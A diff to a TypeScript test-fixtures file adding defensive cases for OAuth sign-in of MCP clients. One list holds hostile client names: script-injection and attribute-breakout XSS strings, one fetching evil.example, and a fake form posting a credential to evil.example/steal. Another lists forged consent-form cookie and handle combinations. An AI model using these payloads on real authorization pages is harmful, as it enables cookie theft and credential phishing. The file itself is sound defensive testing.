@@ -803,6 +803,35 @@ export const SANDBOX_ESCAPES: readonly { label: string; code: string }[] = [
   { label: 'endless recursion', code: "const f = () => f();\nf();\nreturn 'escaped';" },
 ];
 
+// ---- OAuth sign-in of MCP clients (IDN-7) -------------------------------------------------------
+
+/**
+ * Names a dynamically registered client chooses for itself, shown on the authorization page: each
+ * must come out as text, never as markup, and no name may pass for the page's own words.
+ */
+export const HOSTILE_CLIENT_NAMES: readonly string[] = [
+  '<script>alert(document.cookie)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "Claude' autofocus onfocus='fetch(`//evil.example`)",
+  '</title><form action="https://evil.example/steal"><input name="credential">',
+];
+
+/**
+ * Authorization forms that did not come from the page this browser was shown: posted without the
+ * page's cookie, with another browser's cookie, with a handle made up, or with one already spent.
+ * Each is refused, signs no one in, issues no code, and leaves the real authorization usable.
+ */
+export const FORGED_CONSENT_FORMS: readonly {
+  label: string;
+  cookie: 'none' | 'other browser' | 'own';
+  handle: 'own' | 'other browser' | 'made up';
+}[] = [
+  { label: 'no cookie (a cross-site form)', cookie: 'none', handle: 'own' },
+  { label: "another browser's cookie with this page's handle", cookie: 'other browser', handle: 'own' },
+  { label: "this browser's cookie with another page's handle", cookie: 'own', handle: 'other browser' },
+  { label: 'a handle made up', cookie: 'own', handle: 'made up' },
+];
+
 // ---- programs ----------------------------------------------------------------------------------
 
 /**
